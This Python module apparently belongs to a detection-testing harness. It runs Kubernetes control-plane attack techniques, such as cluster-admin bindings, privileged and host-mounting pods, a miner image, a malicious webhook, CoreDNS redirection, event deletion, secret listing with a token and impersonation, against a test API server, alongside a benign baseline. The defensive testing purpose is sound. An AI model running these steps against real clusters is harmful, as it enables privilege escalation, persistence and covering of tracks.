"""Attacks on the management layer, done for real against kube-apiserver, and a benign day.

Each ``Technique`` is what one detection rule must catch: the kubectl commands (or raw HTTPS
requests, for what kubectl cannot send: another user agent, no credentials, a bad token) run
as the scenario's identities, and the entities the rule's alert must name. ``BENIGN`` is what a
cluster does all day (controllers, an admin's deployments and reads, a namespace deleted) and
must raise nothing. There is no kubelet: pods are never scheduled onto a node, and exec,
attach and port-forward are refused by the API server after it has audited the request.
"""

from __future__ import annotations

import json
import ssl
import time
import urllib.error
import urllib.request
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from controlplane.cluster import (
    ADMIN_USER,
    ANONYMOUS,
    DEVELOPER_USER,
    ControlPlane,
    ControlPlaneError,
    wait_until,
)
from controlplane.scenario import IMAGE, RUNNING, Kubectl, merge_patch

NAMESPACE = "attack"
SERVICE_ACCOUNT = f"system:serviceaccount:{NAMESPACE}:default"
TEST_ALERT_NAMESPACE = "asc-alerttest-662jfi039n"
KUBE_HUNTER_AGENT = "kube-hunter/0.6.8"
MINER_IMAGE = "docker.io/xmrig/xmrig:6.21.0"
FAILED_LOGINS = 6
TOKEN = "<service-account token>"  # replaced by the token the scenario requests


@dataclass(frozen=True)
class Kube:
    """``kubectl ARGS`` as ``identity``; ``ok`` False when the API must refuse it.

    With ``identity`` ANONYMOUS and ``TOKEN`` among the args, kubectl authenticates with the
    scenario's service-account token instead of a certificate.
    """

    identity: str
    args: tuple[str, ...]
    manifest: Mapping[str, Any] | None = None
    ok: bool = True


@dataclass(frozen=True)
class Raw:
    """One GET without client certificate: anonymous, or with a bearer token; given user agent."""

    path: str
    status: int
    bearer: str | None = None
    user_agent: str = "Go-http-client/2.0"


@dataclass(frozen=True)
class Burst:
    """Requests that must land in one ``window``-second bin of the clock, as a rule that counts
    per ``bin(TimeGenerated, window)`` sees them: started once the clock is clear of a bin edge."""

    requests: tuple[Raw, ...]
    window: int = 300
    margin: int = 30


Action = Kube | Raw | Burst


@dataclass(frozen=True)
class Technique:
    """What the rule ``rule`` must catch, and the entities its alert must carry."""

    rule: str
    actions: tuple[Action, ...]
    entities: Mapping[str, Any] = field(default_factory=dict)


def _pod(name: str, namespace: str, image: str = IMAGE, **spec: Any) -> dict[str, Any]:
    container: dict[str, Any] = {"name": "main", "image": image, **spec.pop("container", {})}
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name, "namespace": namespace, "labels": {"app": name}},
        "spec": {"containers": [container], **spec},
    }


def _deployment(name: str, namespace: str, image: str) -> dict[str, Any]:
    labels = {"app": name}
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": name, "namespace": namespace},
        "spec": {
            "replicas": 1,
            "selector": {"matchLabels": labels},
            "template": {
                "metadata": {"labels": labels},
                "spec": _pod(name, namespace, image)["spec"],
            },
        },
    }


def _service(name: str, namespace: str, kind: str, port: int) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "Service",
        "metadata": {"name": name, "namespace": namespace},
        "spec": {"type": kind, "selector": {"app": name}, "ports": [{"port": port}]},
    }


def _binding(name: str, role: str, subject: dict[str, str]) -> dict[str, Any]:
    return {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRoleBinding",
        "metadata": {"name": name},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
        "subjects": [subject],
    }


def _create(manifest: Mapping[str, Any], identity: str = ADMIN_USER) -> Kube:
    return Kube(identity, ("create", "-f", "-"), manifest)


_WEBHOOK = {
    "apiVersion": "admissionregistration.k8s.io/v1",
    "kind": "ValidatingWebhookConfiguration",
    "metadata": {"name": "attack-webhook"},
    "webhooks": [
        {
            "name": "intercept.attack.example.com",
            "clientConfig": {"url": "https://198.51.100.7/validate"},
            # Only cronjob deletions, which nothing here does: the webhook is never called.
            "rules": [
                {
                    "apiGroups": ["batch"],
                    "apiVersions": ["v1"],
                    "operations": ["DELETE"],
                    "resources": ["cronjobs"],
                }
            ],
            "failurePolicy": "Ignore",
            "sideEffects": "None",
            "admissionReviewVersions": ["v1"],
            "timeoutSeconds": 1,
        }
    ],
}
_EVENT = {
    "apiVersion": "v1",
    "kind": "Event",
    "metadata": {"name": "evidence.1", "namespace": NAMESPACE},
    "involvedObject": {"kind": "Pod", "name": "privileged", "namespace": NAMESPACE},
    "reason": "Started",
    "message": "what the attacker wants gone",
    "type": "Normal",
}
_NEW_COREFILE = ".:53 {\n    forward . 198.51.100.53\n}\n"
_SA_SUBJECT = {"kind": "ServiceAccount", "name": "default", "namespace": NAMESPACE}
_ANONYMOUS_SUBJECT = {
    "kind": "User",
    "apiGroup": "rbac.authorization.k8s.io",
    "name": "system:anonymous",
}

SETUP: tuple[Action, ...] = (
    Kube(ADMIN_USER, ("create", "namespace", NAMESPACE)),
    _create(
        {
            "apiVersion": "v1",
            "kind": "ConfigMap",
            "metadata": {"name": "coredns", "namespace": "kube-system"},
            "data": {"Corefile": ".:53 {\n    forward . /etc/resolv.conf\n}\n"},
        }
    ),
)

TECHNIQUES: tuple[Technique, ...] = (
    Technique(
        "cluster-admin-binding",
        (_create(_binding("attack-cluster-admin", "cluster-admin", _SA_SUBJECT)),),
        {"Account": ADMIN_USER, "Binding": "/attack-cluster-admin"},
    ),
    Technique(
        "high-privilege-role",
        (
            _create(
                {
                    "apiVersion": "rbac.authorization.k8s.io/v1",
                    "kind": "ClusterRole",
                    "metadata": {"name": "attack-wildcard"},
                    "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}],
                }
            ),
        ),
        {"Account": ADMIN_USER, "Role": "/attack-wildcard"},
    ),
    Technique(
        "privileged-container",
        (
            _create(
                _pod("privileged", NAMESPACE, container={"securityContext": {"privileged": True}})
            ),
        ),
        {"Account": ADMIN_USER, "Workload": f"pods {NAMESPACE}/privileged"},
    ),
    Technique(
        "sensitive-host-mount",
        (
            _create(
                _pod(
                    "host-mount",
                    NAMESPACE,
                    volumes=[{"name": "host", "hostPath": {"path": "/"}}],
                    container={"volumeMounts": [{"name": "host", "mountPath": "/host"}]},
                )
            ),
        ),
        {"Account": ADMIN_USER, "Workload": f"pods {NAMESPACE}/host-mount", "HostPaths": ["/"]},
    ),
    Technique(
        "kube-system-container",
        (_create(_pod("backdoor", "kube-system")),),
        {"Account": ADMIN_USER, "Workload": "pods kube-system/backdoor"},
    ),
    Technique(
        "malicious-image",
        (_create(_deployment("miner", NAMESPACE, MINER_IMAGE)),),
        {"Account": ADMIN_USER, "Workload": f"deployments {NAMESPACE}/miner", "Image": MINER_IMAGE},
    ),
    Technique(
        "exposed-sensitive-service",
        (
            _create(_service("kubernetes-dashboard", "kube-system", "LoadBalancer", 443)),
            _create(_service("cache", NAMESPACE, "NodePort", 6379)),
        ),
        {"Account": ADMIN_USER, "Service": "kube-system/kubernetes-dashboard"},
    ),
    Technique(
        "coredns-modification",
        (
            Kube(
                ADMIN_USER,
                merge_patch(
                    "configmap", "coredns", "kube-system", {"data": {"Corefile": _NEW_COREFILE}}
                ),
            ),
        ),
        {"Account": ADMIN_USER, "ConfigMap": "coredns"},
    ),
    Technique(
        "admission-webhook",
        (_create(_WEBHOOK),),
        {"Account": ADMIN_USER, "Webhook": "validatingwebhookconfigurations/attack-webhook"},
    ),
    Technique(
        "events-deleted",
        (
            _create(_EVENT),
            Kube(ADMIN_USER, ("delete", "event", "evidence.1", "-n", NAMESPACE)),
            _create({**_EVENT, "metadata": {"name": "evidence.2", "namespace": NAMESPACE}}),
            # A DELETE on the collection: the deletecollection verb (kubectl delete --all
            # deletes one by one).
            Kube(ADMIN_USER, ("delete", "--raw", f"/api/v1/namespaces/{NAMESPACE}/events")),
        ),
        {"Account": ADMIN_USER, "Namespace": NAMESPACE, "Verbs": ["delete", "deletecollection"]},
    ),
    Technique(
        "secret-access",
        (
            Kube(
                ADMIN_USER,
                ("create", "secret", "generic", "db", "-n", NAMESPACE, "--from-literal=p=x"),
            ),
            Kube(ANONYMOUS, (f"--token={TOKEN}", "get", "secrets", "--all-namespaces")),
        ),
        {"Account": SERVICE_ACCOUNT, "Scope": "all namespaces"},
    ),
    Technique(
        "service-account-pod-listing",
        (Kube(ANONYMOUS, (f"--token={TOKEN}", "get", "pods", "--all-namespaces")),),
        {"Account": SERVICE_ACCOUNT, "Scope": "all namespaces"},
    ),
    Technique(
        "exec-into-pod",
        (
            Kube(
                ADMIN_USER,
                merge_patch("pod", "privileged", NAMESPACE, RUNNING, "--subresource=status"),
            ),
            Kube(ADMIN_USER, ("exec", "-n", NAMESPACE, "privileged", "--", "id"), ok=False),
        ),
        {"Account": ADMIN_USER, "Pod": f"{NAMESPACE}/privileged", "Action": "exec"},
    ),
    Technique(
        "anonymous-access",
        (
            _create(_binding("attack-anonymous-view", "view", _ANONYMOUS_SUBJECT)),
            Raw(f"/api/v1/namespaces/{NAMESPACE}/pods", 200),
        ),
        {"Account": "system:anonymous", "Paths": [f"/api/v1/namespaces/{NAMESPACE}/pods"]},
    ),
    Technique(
        "pentest-user-agent",
        (
            Raw("/version", 200, user_agent=KUBE_HUNTER_AGENT),
            Raw("/api/v1/namespaces/kube-system/secrets", 403, user_agent=KUBE_HUNTER_AGENT),
        ),
        {"Account": "system:anonymous", "ClientUserAgent": KUBE_HUNTER_AGENT},
    ),
    Technique(
        "privileged-impersonation",
        (
            Kube(
                ADMIN_USER,
                ("get", "secrets", "-n", NAMESPACE, "--as=mallory", "--as-group=system:masters"),
            ),
        ),
        {"Account": ADMIN_USER, "AsUser": "mallory"},
    ),
    Technique(
        "failed-authentication-burst",
        (
            Burst(
                tuple(
                    Raw("/api/v1/namespaces/kube-system/secrets", 401, bearer=f"guess-{attempt}")
                    for attempt in range(FAILED_LOGINS)
                )
            ),
        ),
        {"SourceIp": "127.0.0.1", "Failures": FAILED_LOGINS},
    ),
    Technique(
        "defender-test-alert",
        (Kube(ADMIN_USER, ("get", "pods", f"--namespace={TEST_ALERT_NAMESPACE}")),),
        {"Account": ADMIN_USER},
    ),
)

# A day in a quiet cluster: an admin ships an application, a developer looks at it, and the
# namespace is deleted again (the namespace controller empties it).
BENIGN: tuple[Action, ...] = (
    Kube(ADMIN_USER, ("create", "namespace", "shop")),
    _create(_deployment("web", "shop", IMAGE)),
    _create(_service("web", "shop", "ClusterIP", 80)),
    Kube(ADMIN_USER, ("create", "configmap", "web-config", "-n", "shop", "--from-literal=a=b")),
    Kube(
        ADMIN_USER, ("create", "secret", "generic", "web-tls", "-n", "shop", "--from-literal=k=v")
    ),
    _create(
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "Role",
            "metadata": {"name": "pod-reader", "namespace": "shop"},
            "rules": [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list"]}],
        }
    ),
    Kube(
        ADMIN_USER,
        (
            "create",
            "rolebinding",
            "alice-reads",
            "-n",
            "shop",
            "--role=pod-reader",
            f"--user={DEVELOPER_USER}",
        ),
    ),
    Kube(ADMIN_USER, ("scale", "deployment", "web", "-n", "shop", "--replicas=2")),
    Kube(ADMIN_USER, ("get", "pods,deployments,services", "-n", "shop")),
    Kube(ADMIN_USER, ("get", "pods", "--all-namespaces")),
    Kube(ADMIN_USER, ("get", "configmap", "web-config", "-n", "shop", "-o", "yaml")),
    Kube(DEVELOPER_USER, ("get", "pods", "-n", "shop")),
    Kube(ADMIN_USER, ("get", "nodes")),
    Raw("/version", 200),
    Raw("/healthz", 200),
    Kube(ADMIN_USER, ("delete", "namespace", "shop", "--wait=false")),
)


def raw_get(plane: ControlPlane, action: Raw) -> int:
    """The GET without a client certificate, as a scanner or a script sends it."""
    context = ssl.create_default_context(cafile=str(plane.ca_cert))
    headers = {"User-Agent": action.user_agent, "Accept": "application/json"}
    if action.bearer is not None:
        headers["Authorization"] = f"Bearer {action.bearer}"
    request = urllib.request.Request(plane.server + action.path, headers=headers)  # noqa: S310
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=context)
    )
    try:
        with opener.open(request, timeout=10) as response:
            return int(response.status)
    except urllib.error.HTTPError as error:
        return int(error.code)


def _run(kubectl: Kubectl, action: Action, token: str) -> None:
    if isinstance(action, Burst):
        window, margin = action.window, action.margin
        wait_until(
            lambda: time.time() % window < window - margin,
            timeout=margin + 5,
            what=f"the clock to be {margin}s clear of a {window}s bin edge",
            interval=0.5,
        )
        for request in action.requests:
            _run(kubectl, request, token)
        return
    if isinstance(action, Raw):
        status = raw_get(kubectl.plane, action)
        if status != action.status:
            raise ControlPlaneError(f"GET {action.path}: {status}, expected {action.status}")
        return
    args = tuple(arg.replace(TOKEN, token) for arg in action.args)
    stdin = json.dumps(action.manifest) if action.manifest is not None else None
    done = kubectl.run(action.identity, args, stdin)
    if (done.returncode == 0) != action.ok:
        shown = " ".join(action.args)
        raise ControlPlaneError(
            f"kubectl {shown} as {action.identity}: exit {done.returncode}, expected "
            f"{'success' if action.ok else 'a refusal'}: {done.stderr.strip() or done.stdout.strip()}"
        )


def _service_account_token(kubectl: Kubectl) -> str:
    kubectl.await_default_service_account(NAMESPACE)
    done = kubectl.run(ADMIN_USER, ("create", "token", "default", "-n", NAMESPACE))
    if done.returncode != 0:
        raise ControlPlaneError(f"kubectl create token: {done.stderr}")
    return done.stdout.strip()


def run_attacks(plane: ControlPlane, kubectl: Kubectl, techniques: Sequence[Technique]) -> None:
    """The setup, then every technique in order."""
    for action in SETUP:
        _run(kubectl, action, "")
    token = _service_account_token(kubectl)
    for technique in techniques:
        for action in technique.actions:
            _run(kubectl, action, token)


def run_benign(kubectl: Kubectl) -> None:
    """The benign day, in order."""
    for action in BENIGN:
        _run(kubectl, action, "")
